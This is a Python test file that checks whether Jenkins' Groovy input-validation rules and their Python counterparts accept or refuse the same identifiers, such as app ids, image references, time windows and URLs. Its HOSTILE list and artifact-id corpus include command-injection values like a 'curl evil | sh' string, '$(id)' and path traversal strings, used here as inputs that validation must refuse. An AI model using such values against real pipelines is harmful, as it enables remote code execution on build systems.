"""The Groovy identifier rules (Inputs.groovy) judge every value as the Python rules they mirror do.

One accept/refuse corpus goes through both: Jenkins runs Inputs.check under Groovy 2.4, Python
runs pathops_contracts.identifiers. A value one side accepts and the other refuses is drift: a
Jenkins build that fails late in a tool with exit 2, or a check that Jenkins skips.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
from pathlib import Path
from typing import Any

import pytest

from gitops_patcher.cli import run_options
from pathops_contracts.agent_job import JobEnv, agent_names, load_agent_job
from pathops_contracts.errors import InvalidInput
from pathops_contracts.identifiers import RULES_BY_NAME
from tests.shared_library.test_steps import GLOBAL_ENV  # the steps' endpoints (jenkins/casc.yaml)

ROOT = Path(__file__).resolve().parents[2]
AGENTS = agent_names()
GITOPS = "https://gitlab.demo.pathops.io/shop/shop-frontend-gitops.git"
# Jenkins' own rules: they guard step parameters that no Python identifier rule covers.
GROOVY_ONLY = {"env", "mrIid", "imageRepository", "gitUrl", "credentialsId", "path", "label", "egress"}
# The Groovy rules of one kind of artifact id: the Python rule, and the kind the step expects.
ARTIFACT_PREFIX = {"snapshotId": "snap-", "patchId": "patch-", "reportId": "report-"}
HOSTILE = ["", " ", "a b", "x'; curl evil | sh; '", "a\nb", "a\n", "\u00e9t\u00e9", "../x", "a/../b", "$(id)",
           "`id`", "a;b", "a\tb", "\x00"]
INTERVAL = "2026-11-27T09:00:00Z/2026-11-27T10:00:00Z"
CORPUS: dict[str, list[str]] = {
    "app id": ["shop-frontend", "a", "a" * 40, "a" * 41, "-a", "a-", "Shop", "shop_frontend", "1shop",
               "shop.frontend"],
    "namespace": ["shop-frontend-preflight", "a" * 63, "a" * 64, "-x", "x-", "X", "kube-system"],
    "incident id": ["INC-1042", "a", "A" * 48, "A" * 49, "inc.1_2-3", "-INC", "INC-", ".x", "x.", "INC 1", "INC/1",
                    "VER-7", "CS-17"],
    "commit sha": ["a" * 40, "0" * 64, "A" * 40, "a" * 39, "a" * 41, "a" * 63, "g" * 40, "a" * 40 + "\n"],
    "project path": ["shop/shop-frontend", "a/b/c", "shop", "/shop/x", "shop/", "shop//x", "shop/.x", "shop/x.",
                     "shop/../etc", "_a/_b", "a/" + "b" * 253, "a/" + "b" * 254, "shop/x.git", "shop/x-"],
    "artifact id": [f"{kind}-{'a' * 32}" for kind in ("snap", "patch", "report")] + [
        "snap-" + "A" * 32, "snap-" + "a" * 31, "snap-" + "a" * 33, "snapshot-" + "a" * 32, "patch-" + "g" * 32,
        "patch-x; curl evil"],
    "bucket": ["pathops-evidence", "abc", "a" * 63, "a" * 64, "Bucket", "a_b", "a:b", "-ab", "ab-", "a.b",
               "pathops/evidence"],
    "image": ["harbor.demo.pathops.io/pathops/evidence-collector:0.1.0",
              "harbor.demo.pathops.io/pathops/x:1@sha256:" + "3" * 64, "harbor.demo.pathops.io/p/x@sha256:" + "3" * 64,
              "harbor:5000/p/x", "x", "h/p/a..b", "h/p/a.-b", "h/p/a__b", "h/p/a___b", "h/p/a--b", "h/p/a-_b",
              "h/p/a._b", "h/p/A", "h/p/x:", "h/p/x:-tag", "h/p/x:_tag", "h/p/x@sha256:" + "3" * 63,
              "h/" + "a" * 510, "h/" + "a" * 511, "h/p/x:" + "t" * 128, "h/p/x:" + "t" * 129],
    "time window": [
        "30m", "1h30m", "7d", "8d", "0m", "0s", "1s", "604800s", "604801s", "99999999999999999999d", "6d23h60m",
        INTERVAL, "2026-11-27T09:00:00Z/2026-12-04T09:00:00Z", "2026-11-27T09:00:00Z/2026-12-04T09:00:01Z",
        "2026-11-27T10:00:00Z/2026-11-27T09:00:00Z", "2026-11-27T09:00:00Z/2026-11-27T09:00:00Z",
        "2026-02-30T09:00:00Z/2026-03-01T09:00:00Z", "0001-01-01T00:00:00Z/0001-01-02T00:00:00Z",
        "3000-01-01T00:00:00Z/3000-01-02T00:00:00Z", "2999-12-31T23:00:00Z/2999-12-31T23:30:00Z",
        "2026-12-31T23:59:60Z/2027-01-01T00:00:10Z", "2024-02-29T00:00:00Z/2024-02-29T01:00:00Z",
        "2026-11-27T24:00:00Z/2026-11-28T01:00:00Z", "2026-13-01T00:00:00Z/2026-13-01T01:00:00Z",
        "2026-11-27T09:00:00.5Z/2026-11-27T10:00:00Z", "2026-11-27T09:00:00+00:00/2026-11-27T10:00:00+00:00",
        "2026-11-27t09:00:00z/2026-11-27t10:00:00z", "2026-11-27T09:00:00Z", "2026-11-27T09:00:00Z/",
        "/2026-11-27T09:00:00Z", f"{INTERVAL}/2026-11-27T11:00:00Z", "30", "m", "30M", "1h 30m", "-1h", "+1h",
        "1m" * 32, "1m" * 31 + "01s", "PT30M"],
    "endpoint URL": ["https://minio.demo.pathops.io", "http://10.0.0.1:9000", "https://cp.x/base/", "https://u:p@x",
                     "https://x?q=1", "https://x#f", "ftp://x", "https://", "https://x:99999", "https://x:123456",
                     "https://x/a b", "HTTPS://x", "http://" + "a" * 505, "http://" + "a" * 506,
                     "https://x/%2e%2e/"],
    "verification id": ["VER-7", "V" * 48, "V" * 49, "VER 7", "-VER"],
    "change set id": ["CS-17", "C" * 48, "C" * 49, "CS/17", "CS-"],
    "label selector": ["app.kubernetes.io/name=shop-frontend", "a=b,c!=d", "a==b", "a", "a=b;c", "a in (b)"],
    "timestamp": ["2026-11-27T09:30:00Z", "2026-11-27T09:30:00.123Z", "2026-02-30T00:00:00Z", "0001-01-01T00:00:00Z",
                  "2026-11-27 09:30:00Z"],
    "workload": ["deployment/shop-frontend", "service/shop-frontend", "statefulset/db", "pod/x", "ingress/x",
                 "deployment/", "deployment/X", "deployment/a.b", "deployment/-a", "deployment/../x",
                 "pod/" + "a" * 296, "pod/" + "a" * 297, "Deployment/x"],
}


def python_accepts(rule: str, value: str, groovy_rule: str) -> bool:
    try:
        RULES_BY_NAME[rule].check(value)
    except InvalidInput:
        return False
    return value.startswith(ARTIFACT_PREFIX.get(groovy_rule, ""))


def run_groovy(cases: list[dict[str, str]], tmp_path: Path) -> dict[str, Any]:
    groovy = shutil.which("groovy")
    if groovy is None:
        pytest.fail("groovy is missing: `make test` installs it (apt-get install groovy)")
    path = tmp_path / "cases.json"
    path.write_text(json.dumps(cases))
    env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
    result = subprocess.run([groovy, str(Path(__file__).parent / "rules.groovy"), str(ROOT), str(path)],
                            capture_output=True, text=True, env=env, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    output: dict[str, Any] = json.loads(result.stdout.strip().splitlines()[-1])
    return output


@pytest.fixture(scope="module")
def groovy_rules(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Every Groovy rule with its mirror, and the corpus of each mirrored rule judged by Groovy."""
    described = run_groovy([], tmp_path_factory.mktemp("describe"))
    cases = [{"rule": groovy_rule, "value": value}
             for groovy_rule, rules in described["mirrors"].items()
             for value in dict.fromkeys(sum((CORPUS.get(rule, []) for rule in rules), HOSTILE))]
    return {**described, "results": run_groovy(cases, tmp_path_factory.mktemp("corpus"))["results"]}


def test_every_groovy_rule_mirrors_a_python_rule_or_is_declared_jenkins_own(groovy_rules: dict[str, Any]) -> None:
    mirrors = groovy_rules["mirrors"]
    assert set(groovy_rules["rules"]) == set(mirrors) | GROOVY_ONLY
    assert not set(mirrors) & GROOVY_ONLY
    mirrored = {rule for rules in mirrors.values() for rule in rules}
    assert mirrored <= set(RULES_BY_NAME) and mirrored <= set(CORPUS)


def test_groovy_and_python_judge_the_corpus_alike(groovy_rules: dict[str, Any]) -> None:
    drift = []
    for result in groovy_rules["results"]:
        for rule in groovy_rules["mirrors"][result["rule"]]:
            python = python_accepts(rule, result["value"], result["rule"])
            if python != (result["error"] is None):
                drift.append(f"{result['rule']} ({rule}) {result['value'][:80]!r}: Python "
                             f"{'accepts' if python else 'refuses'}, Groovy {result['error'] or 'accepts'}")
    assert drift == [], "\n".join(drift)


def test_the_corpus_has_both_verdicts_for_every_rule() -> None:
    """A corpus that only accepts (or only refuses) could not show a drift."""
    for rule, values in CORPUS.items():
        verdicts = {python_accepts(rule, value, "") for value in values}
        assert verdicts == {True, False}, rule


def test_the_interval_form_of_a_time_window_passes_jenkins(groovy_rules: dict[str, Any]) -> None:
    (result,) = [r for r in groovy_rules["results"] if r["rule"] == "timeWindow" and r["value"] == INTERVAL]
    assert result["error"] is None


# Job variables that no Jenkins step offers: gitops-patcher derives them or takes them from its defaults.
NOT_OFFERED_BY_JENKINS = {
    ("evidence-collector", "LABEL_SELECTOR"), ("evidence-collector", "ALERT_STARTS_AT"),
    ("verification-agent", "TARGET_NAMESPACE"),
}
BASE_CONFIG = {
    "evidence-collector": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS},
    "fix-agent": {"app": "shop-frontend", "incidentId": "INC-1042", "gitopsRepo": GITOPS,
                  "image": "harbor.demo.pathops.io/pathops/agents/fix-shop-frontend@sha256:" + "3" * 64},
    "verification-agent": {"app": "shop-frontend", "verificationId": "VER-7", "gitopsRepo": GITOPS,
                           "patchId": "patch-" + "c" * 32},
}


def step_of(agent: str) -> str:
    """`evidence-collector` -> `scheduleEvidenceCollector`, the Jenkins step that schedules its Job."""
    return "schedule" + "".join(word.title() for word in agent.split("-"))


def parameter_of(option: str) -> str:
    """`--expected-commit-sha` -> `expectedCommitSha`, the step parameter behind gitops-patcher's option."""
    first, *rest = option.removeprefix("--").split("-")
    return first + "".join(word.title() for word in rest)


def sample(variable: JobEnv, agent: str) -> str:
    if variable.rule is None:
        return variable.choices[0]
    prefix = "snap-" if agent == "fix-agent" and variable.name == "SNAPSHOT_ID" else ""
    return next(v for v in CORPUS[variable.rule.name] if python_accepts(variable.rule.name, v, "")
                and v.startswith(prefix))


@pytest.fixture(scope="module")
def step_checks(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict[str, Any]]:
    """Each schedule step run once with every parameter its Job's run values come from."""
    cases = []
    for agent in AGENTS:
        job = load_agent_job(agent)
        config = {**BASE_CONFIG[agent], **{parameter_of(str(v.option)): sample(v, agent)
                                           for v in job.env if v.source == "run"}}
        cases.append({"name": agent, "step": step_of(agent), "config": config, "env": GLOBAL_ENV})
    path = tmp_path_factory.mktemp("steps") / "cases.json"
    path.write_text(json.dumps(cases))
    env = {**os.environ, "JAVA_HOME": os.environ.get("JAVA_HOME", "/usr/lib/jvm/java-17-openjdk-amd64")}
    result = subprocess.run([str(shutil.which("groovy")), str(Path(__file__).parent / "harness.groovy"), str(ROOT),
                             str(path)], capture_output=True, text=True, env=env, timeout=300, check=False)
    assert result.returncode == 0, result.stderr
    return {entry["name"]: entry for entry in json.loads(result.stdout.strip().splitlines()[-1])}


@pytest.mark.parametrize("agent", AGENTS)
def test_each_step_checks_a_job_value_by_the_rule_its_description_names(
        agent: str, step_checks: dict[str, dict[str, Any]], groovy_rules: dict[str, Any]) -> None:
    """Jenkins -> gitops-patcher -> the Job: the step parameter behind each run value of the Job is checked
    by the Groovy mirror of the Python rule the description gives that value."""
    result = step_checks[agent]
    assert result["error"] is None, result["error"]
    (check,) = [call for call in result["calls"] if call["step"] == "Inputs.check"]
    (sh,) = [call for call in result["calls"] if call["step"] == "sh"]
    envvars = {flag: str(param.envvar) for param in gitops_patcher_params() for flag in param.opts}
    for variable in load_agent_job(agent).env:
        if variable.source != "run":
            continue
        parameter = parameter_of(str(variable.option))
        if (agent, variable.name) in NOT_OFFERED_BY_JENKINS:
            assert parameter not in check["rules"], f"{parameter} is offered now: drop it from the list"
            continue
        assert sh["env"].get(envvars[str(variable.option)]) == sample(variable, agent), parameter
        groovy_rule = check["rules"].get(parameter)
        assert groovy_rule is not None, f"{step_of(agent)} passes {parameter} on unchecked"
        if variable.rule is None:
            assert groovy_rule == "env" and set(variable.choices) <= {"preflight", "production"}
        else:
            assert variable.rule.name in groovy_rules["mirrors"].get(groovy_rule, []), parameter
        if variable.name == "SNAPSHOT_ID":
            assert groovy_rule == "snapshotId"


def gitops_patcher_params() -> list[Any]:
    def probe() -> None:
        """Carries the options."""

    return list(getattr(run_options(probe), "__click_params__", []))
